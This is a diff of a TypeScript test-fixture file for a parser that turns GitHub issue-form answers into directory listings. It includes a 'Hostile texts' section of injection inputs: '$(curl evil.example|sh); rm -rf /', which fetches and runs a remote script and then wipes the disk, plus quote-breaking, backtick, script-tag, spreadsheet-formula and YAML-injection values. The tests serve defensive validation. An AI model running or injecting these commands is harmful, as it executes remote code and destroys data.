@@ -12,10 +12,16 @@ const FIELDS = {
   'Where the details come from': 'I run it.',
 };
 
-const form = (changes: Partial<Record<keyof typeof FIELDS | (string & {}), string>> = {}) =>
-  Object.entries({ ...FIELDS, ...changes })
+/** Writes answers as GitHub writes the answers to a form. */
+export const sections = (answers: Record<string, string>) =>
+  Object.entries(answers)
     .map(([heading, value]) => `### ${heading}\n\n${value}`)
     .join('\n\n');
+const form = (changes: Record<string, string> = {}) => sections({ ...FIELDS, ...changes });
+const ORIGIN = 'Where the details come from';
+const PIE = ['name: Pie & Mash'];
+
+const SHELL = '$(curl evil.example|sh); rm -rf /';
 
 /** `adds` has lines of the added listing. `finds` has words of the finding, if nothing is added. */
 export const texts: { name: string; body: string; adds?: string[]; finds?: string }[] = [
@@ -25,13 +31,9 @@ export const texts: { name: string; body: string; adds?: string[]; finds?: strin
   {
     name: 'with headings in small letters',
     body: form().replaceAll(/### \w+/g, (line) => line.toLowerCase()),
-    adds: ['name: Pie & Mash'],
+    adds: PIE,
   },
-  {
-    name: 'with many lines of origin',
-    body: form({ 'Where the details come from': 'A\n\nB\n- C' }),
-    adds: ['name: Pie & Mash'],
-  },
+  { name: 'with many lines of origin', body: form({ [ORIGIN]: 'A\n\nB\n- C' }), adds: PIE },
   { name: 'in French', body: form({ Name: 'L’Épicerie d’à côté' }), adds: ['- id: lepicerie-da-cote', 'L’Épicerie'] },
   { name: 'in Amharic', body: form({ Name: 'ጣይቱ ምግብ ቤት' }), adds: ['- id: listing', 'name: ጣይቱ ምግብ ቤት'] },
   { name: 'with words of YAML', body: form({ Name: 'Yes: no # [1] {a} &b *c !d | >' }), finds: 'not plain text' },
@@ -41,20 +43,12 @@ export const texts: { name: string; body: string; adds?: string[]; finds?: strin
   { name: 'without a group', body: form({ Group: '_No response_' }), finds: 'The form has no answer for "Group".' },
   { name: 'with a page that is not there', body: form({ Page: '/zz1-eatingout' }), finds: '"/zz1-eating-out"?' },
   { name: 'with a group that is not there', body: form({ Group: 'Smokhouse' }), finds: '"Smokehouse"?' },
-  {
-    name: 'edited by hand',
-    body: form().replace('### Group', '## Group'),
-    finds: 'The form has no answer for "Group".',
-  },
+  { name: 'edited by hand', body: form().replace('### Group', '## Group'), finds: 'has no answer for "Group".' },
   { name: 'with a heading of its own', body: form({ Hours: '9 to 5' }), adds: ['name: Pie & Mash'] },
   { name: 'that is no form', body: 'Please add my shop, thanks!', finds: 'The form has no answer for "Name".' },
   { name: 'of what is listed already', body: form({ Name: 'The Tidewater Café' }), adds: ['- id: the-tidewater-cafe'] },
   // Hostile texts
-  {
-    name: 'with commands for a shell',
-    body: form({ Name: '$(curl evil.example|sh); rm -rf /', Address: '"; exit 1 #' }),
-    adds: ['name: $(curl evil.example|sh); rm -rf /'],
-  },
+  { name: 'with commands for a shell', body: form({ Name: SHELL, Address: '"; exit 1 #' }), adds: [`name: ${SHELL}`] },
   { name: 'with a command between backticks', body: form({ Name: '`id`' }), finds: 'not plain text' },
   {
     name: 'with expressions of a workflow',
@@ -66,11 +60,7 @@ export const texts: { name: string; body: string; adds?: string[]; finds?: strin
     body: form({ Name: 'Pie\n        sample: true\n      - id: spam' }),
     finds: 'runs over more than one line',
   },
-  {
-    name: 'with a second form in an answer',
-    body: form({ 'Where the details come from': 'Me\n\n### Page\n\n/zz2-shops' }),
-    finds: 'is repeated',
-  },
+  { name: 'with a second form', body: form({ [ORIGIN]: 'Me\n\n### Page\n\n/zz2-shops' }), finds: 'is repeated' },
   { name: 'with HTML', body: form({ Name: '<script src=//evil.example></script>' }), finds: 'not plain text' },
   { name: 'with a formula', body: form({ Name: '=HYPERLINK("https://evil.example")' }), adds: ['=HYPERLINK('] },
   {
